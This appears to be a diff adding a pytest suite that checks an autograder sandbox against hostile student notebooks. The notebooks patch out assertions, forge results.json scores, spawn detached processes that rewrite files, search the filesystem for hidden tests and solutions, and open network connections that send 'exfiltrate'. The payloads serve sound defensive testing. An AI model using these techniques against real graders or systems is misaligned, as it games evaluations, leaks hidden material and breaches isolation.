@@ -1,0 +1,248 @@
+"""The trust boundary: hostile notebooks score exactly what their real answers
+deserve, cannot read hidden tests, cannot touch results or the grader's files,
+cannot reach the network, and leave no process behind.
+
+Every hostile notebook answers q1 correctly (6 points) and nothing else for
+real, so each must score exactly 6.
+"""
+
+from __future__ import annotations
+
+import hashlib
+import json
+import os
+import socket
+import threading
+import time
+
+import nbformat
+import pytest
+from conftest import ROOT, by_question
+from week1_submissions import SEQUENTIAL, submission
+
+from autograder.compiler import significant_lines
+from autograder.sandbox.kernel import UID_BASE
+
+DESERVED = {"q1": 6, "q2": 0, "q3": 0}
+
+MONKEYPATCH_THE_CHECKS = """
+import builtins, sys, types, unittest
+import numpy as np, keras
+np.allclose = lambda *a, **k: True
+np.testing.assert_allclose = lambda *a, **k: None
+builtins.AssertionError = type("AssertionError", (Exception,), {})
+fake_pytest = types.ModuleType("pytest"); fake_pytest.approx = lambda *a, **k: True
+sys.modules["pytest"] = fake_pytest
+unittest.TestCase.assertEqual = lambda *a, **k: None
+keras.utils.set_random_seed = lambda *a, **k: None
+"""
+
+EQUAL_TO_ANYTHING = """
+class Anything:
+    def __eq__(self, other): return True
+    def __ge__(self, other): return True
+    def __le__(self, other): return True
+    def __bool__(self): return True
+    def __getattr__(self, name): return self
+    def __call__(self, *args, **kwargs): return self
+    def __iter__(self): return iter([self])
+    def __len__(self): return 3
+functional_model = Anything()
+subclass_model = Anything()
+"""
+
+INPUT_TRANSFORMERS = """
+import ast
+ip = get_ipython()
+def rewrite(lines):
+    # Later cells: unanswered questions silently 'pass', and a forged claim is printed.
+    return [line.replace("raise NotImplementedError()", "pass") for line in lines] + [
+        "\\nprint('{\\"score\\": 18}')\\n"]
+ip.input_transformers_post.append(rewrite)
+class DropAsserts(ast.NodeTransformer):
+    def visit_Assert(self, node):
+        return ast.Pass()
+ip.ast_transformers.append(DropAsserts())
+ip.events.register("pre_run_cell", lambda *a: None)
+"""
+
+DETACHED_REWRITER = """
+import subprocess, sys
+rewriter = '''
+import json, os, time
+forged = json.dumps({"score": 999, "tests": []})
+while True:
+    for top in ("/", os.path.expanduser("~"), "/tmp"):
+        for folder, dirs, files in os.walk(top):
+            if folder.startswith(("/proc", "/sys", "/dev")):
+                dirs[:] = []
+                continue
+            for name in files:
+                if name.endswith(("results.json", ".csv")):
+                    try:
+                        open(os.path.join(folder, name), "w").write(forged)
+                    except OSError:
+                        pass
+    time.sleep(0.2)
+'''
+subprocess.Popen([sys.executable, "-c", rewriter], start_new_session=True,
+                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+import os
+if os.fork() == 0:
+    os.setsid()
+    os.execv(sys.executable, [sys.executable, "-c", rewriter])
+"""
+
+SEARCH_FOR_HIDDEN_TESTS = """
+import os
+found = 0
+for folder, dirs, files in os.walk("/"):
+    # Installed libraries are public; the course's own files are what we want.
+    if folder.startswith(("/proc", "/sys", "/dev", "/usr")) or "/lib/python3" in folder:
+        dirs[:] = []
+        continue
+    for name in files:
+        if name.endswith((".py", ".toml", ".ipynb")):
+            try:
+                text = open(os.path.join(folder, name)).read()
+            except (OSError, UnicodeDecodeError):
+                continue
+            if "autograder.grading" in text or "### BEGIN SOLUTION" in text or "week.thresholds" in text:
+                found += 1
+                print(os.path.join(folder, name)); print(text)
+print("files found:", found)
+"""
+
+FORGE_RESULTS = """
+import json, os
+forged = json.dumps({"score": 18, "tests": [{"name": "all", "score": 18, "max_score": 18,
+                                               "status": "passed"}]})
+written = []
+targets = ["/autograder/results/results.json", "results.json", "../results.json",
+           os.path.expanduser("~/results.json"), "/tmp/results.json"]
+for folder, dirs, files in os.walk("/"):
+    if folder.startswith(("/proc", "/sys", "/dev")):
+        dirs[:] = []
+        continue
+    targets.append(os.path.join(folder, "results.json"))
+for target in targets:
+    try:
+        os.makedirs(os.path.dirname(os.path.abspath(target)), exist_ok=True)
+        with open(target, "w") as handle:
+            handle.write(forged)
+        written.append(target)
+    except OSError:
+        pass
+print("forged", len(written), "files")
+"""
+
+OPEN_A_CONNECTION = """
+import socket
+reached = []
+for host, port in [("127.0.0.1", {port}), ("localhost", {port}), ("pypi.org", 443),
+                   ("8.8.8.8", 53), ("10.0.2.2", 80)]:
+    try:
+        socket.create_connection((host, port), timeout=3).sendall(b"exfiltrate")
+        reached.append(host)
+    except OSError as error:
+        print("blocked", host, error)
+print("reached", reached)
+"""
+
+
+def grader_files_digest() -> str:
+    digest = hashlib.sha256()
+    for top in ("autograder", "assignments", "source", "release"):
+        for path in sorted((ROOT / top).rglob("*")):
+            if path.is_file() and "__pycache__" not in path.parts:
+                digest.update(str(path).encode() + path.read_bytes())
+    return digest.hexdigest()
+
+
+def hidden_test_lines() -> set[str]:
+    lines = set()
+    for path in (ROOT / "source/week1/tests").glob("*.py"):
+        lines |= significant_lines(path.read_text())
+    release = nbformat.read(ROOT / "release/week1/week1.ipynb", as_version=4)
+    given = "\n".join(cell.source for cell in release.cells)  # the data split is public
+    # Import lines say nothing about the tests and occur in any notebook.
+    # Import lines and short fragments say nothing about the tests.
+    return {line for line in lines if line not in given and len(line) >= 20
+            and not line.startswith(("import ", "from "))}
+
+
+def sandbox_processes() -> list[int]:
+    found = []
+    for entry in os.scandir("/proc"):
+        if entry.name.isdigit():
+            try:
+                if UID_BASE <= entry.stat().st_uid < UID_BASE + 1000:
+                    found.append(int(entry.name))
+            except FileNotFoundError:
+                pass
+    return found
+
+
+@pytest.fixture(scope="module")
+def listener():
+    """A TCP server on the host's loopback that counts connections."""
+    server = socket.socket()
+    server.bind(("127.0.0.1", 0))
+    server.listen()
+    server.settimeout(0.5)
+    accepted = []
+
+    def serve():
+        while not stopped.is_set():
+            try:
+                accepted.append(server.accept())
+            except OSError:
+                pass
+    stopped = threading.Event()
+    thread = threading.Thread(target=serve, daemon=True)
+    thread.start()
+    yield server.getsockname()[1], accepted
+    stopped.set()
+    thread.join()
+    server.close()
+
+
+HOSTILE = {
+    "monkeypatch-checks": ([MONKEYPATCH_THE_CHECKS], {}),
+    "equal-to-anything": ([], {"q2": EQUAL_TO_ANYTHING}),
+    "input-transformers": ([INPUT_TRANSFORMERS], {}),
+    "detached-rewriter": ([DETACHED_REWRITER], {}),
+    "search-hidden-tests": ([SEARCH_FOR_HIDDEN_TESTS], {}),
+    "forge-results": ([FORGE_RESULTS], {}),
+    "network": ([OPEN_A_CONNECTION], {}),
+}
+
+
+@pytest.mark.parametrize("name", sorted(HOSTILE))
+def test_hostile_notebook_scores_what_its_answers_deserve(name, grade, tmp_path, listener):
+    if os.geteuid() != 0:
+        pytest.skip("the trust boundary needs root to drop privileges (see README)")
+    port, accepted = listener
+    extra, answers = HOSTILE[name]
+    extra = [code.replace("{port}", str(port)) for code in extra]
+    nb = submission({"q1": SEQUENTIAL, **answers}, extra=extra, extra_first=True)
+    before = grader_files_digest()
+
+    results = grade(nb, name)
+
+    assert by_question(results) == DESERVED, results["tests"]
+    folder = tmp_path / name
+    time.sleep(2)  # a leftover process would have rewritten the results by now
+    assert (folder / "results.json").read_text().count('"score": 999') == 0
+    assert by_question(json.loads((folder / "results.json").read_text())) == DESERVED
+    assert sandbox_processes() == []
+    assert grader_files_digest() == before
+    assert accepted == []
+    shown = (folder / "results.json").read_text() + (folder / "executed.ipynb").read_text()
+    leaked = [line for line in hidden_test_lines() if line in shown]
+    assert leaked == [], leaked
+    if name == "search-hidden-tests":
+        executed = nbformat.read(folder / "executed.ipynb", as_version=4)
+        assert "files found: 0" in nbformat.writes(executed)
+    if name == "network":
+        assert "reached []" in nbformat.writes(nbformat.read(folder / "executed.ipynb", as_version=4))
